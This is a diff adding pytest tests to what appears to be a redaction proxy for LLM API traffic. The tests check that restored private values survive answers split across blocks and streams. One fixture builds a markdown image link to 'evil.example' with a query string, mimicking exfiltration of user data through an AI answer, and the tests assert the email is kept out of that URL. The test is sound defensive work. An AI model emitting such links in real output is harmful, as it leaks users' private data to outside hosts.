@@ -160,3 +160,59 @@ def test_markdown_code_tables_and_links_that_arrived_come_back_to_the_byte(
         assert text.replace(WORD, EMAIL).replace(LINKED, URL) in said
         assert "_7K3M9Q" not in said
         assert "_2B4D6F" not in said
+
+
+FIRST, SECOND = "![x](https://evil.example/?q=", f"{WORD}) {WORD}"
+
+
+def in_blocks_of_a_message() -> tuple[str, dict[str, Any], list[dict[str, Any]]]:
+    """A whole answer in two blocks, and its stream; as citations cut a text."""
+    blocks = [{"type": "text", "text": text} for text in (FIRST, SECOND)]
+    whole = {"id": "m", "type": "message", "role": "assistant", "content": blocks}
+    events: list[dict[str, Any]] = [{"type": "message_start", "message": {**whole, "content": []}}]
+    for index, text in enumerate((FIRST, SECOND)):
+        start = {"type": "content_block_start", "content_block": {"type": "text", "text": ""}}
+        piece = {"type": "content_block_delta", "delta": {"type": "text_delta", "text": text}}
+        events += [{**each, "index": index} for each in (start, piece)]
+        events.append({"type": "content_block_stop", "index": index})
+    return "anthropic_messages", whole, [*events, {"type": "message_stop"}]
+
+
+def in_parts_of_a_response() -> tuple[str, dict[str, Any], list[dict[str, Any]]]:
+    """The same as parts of an output item, each text repeated."""
+    parts = [{"type": "output_text", "text": text, "annotations": []} for text in (FIRST, SECOND)]
+    item = {"type": "message", "role": "assistant", "id": "i", "content": parts}
+    whole = {"id": "r", "object": "response", "status": "completed", "output": [item]}
+    events: list[dict[str, Any]] = []
+    for index, text in enumerate((FIRST, SECOND)):
+        at = {"output_index": 0, "content_index": index, "item_id": "i"}
+        events.append({"type": "response.output_text.delta", "delta": text, **at})
+        events.append({"type": "response.output_text.done", "text": text, **at})
+    events.append({"type": "response.output_item.done", "output_index": 0, "item": item})
+    events.append({"type": "response.completed", "response": whole})
+    numbered = [{**event, "sequence_number": number} for number, event in enumerate(events)]
+    return "openai_responses", whole, numbered
+
+
+@pytest.mark.parametrize("split", [in_blocks_of_a_message, in_parts_of_a_response])
+def test_an_address_that_a_block_begins_goes_on_in_the_next(split: Any) -> None:
+    name, whole, events = split()
+    (speaks,) = [each for each in DIALECTS.values() if each.name == name]
+    request = json.dumps({"model": "m", "max_tokens": 9, **REQUESTS[name]}).encode()
+    turn = speaks.read_turn(request, limits=Limits(), allowed=Allowed())
+    answer = speaks.read_answer(json.dumps(whole).encode(), turn)
+    back = Restorer(MAP, RULES)
+    texts = {
+        index: back.restore(slot.text, slot.channel, sink=slot.sink, json=slot.json)
+        for index, slot in enumerate(answer.slots)
+    }
+    stream = "".join(f"event: {each['type']}\ndata: {json.dumps(each)}\n\n" for each in events)
+    told = [
+        speaks.write_answer(answer, texts).decode(),
+        _streamed(speaks, turn, stream.encode(), len(stream)),
+        _streamed(speaks, turn, stream.encode(), 1),
+    ]
+    for said in told:
+        assert f"q={EMAIL}" not in said
+        assert f"{WORD}) {EMAIL}" in said
+        assert f"{EMAIL}) " not in said
